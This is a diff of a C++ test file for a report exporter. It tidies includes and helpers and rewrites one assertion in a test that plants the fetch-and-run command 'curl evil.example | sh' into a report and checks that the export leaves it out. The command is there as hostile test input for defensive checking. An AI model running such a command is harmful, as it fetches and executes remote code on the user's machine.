@@ -9,6 +9,7 @@
 #include "reports/export/export.hpp"
 #include "reports/testing/example_launch.hpp"
 #include "reports/testing/hostile_report.hpp"
+#include "reports/testing/said.hpp"
 #include "reports/testing/slowed_report.hpp"
 
 namespace tidemark::reports {
@@ -77,8 +78,6 @@ std::vector<Json> all_of(const std::vector<Json>& lines, const std::string& kind
   return made;
 }
 
-Report example() { return assemble(example_journals(), {}); }
-
 void expect_valid(const std::vector<Json>& lines) {
   for (std::size_t i = 0; i < lines.size(); ++i) {
     EXPECT_EQ(lines[i].size(), 3U) << lines[i];
@@ -131,7 +130,7 @@ TEST(Ocp, EachStepBeginsAndEndsAroundItsArtifacts) {
 TEST(Ocp, HasNoCommandThatAReportStored) {
   Report report = example();
   report.strings[report.results[3].replay] = "curl evil.example | sh";
-  EXPECT_EQ(ocp_of(report).find("evil"), std::string::npos);
+  EXPECT_FALSE(has(ocp_of(report), "evil"));
 }
 
 TEST(Ocp, AResultIsADiagnosisOfItsGpuWithTheReasonAndTheReplay) {
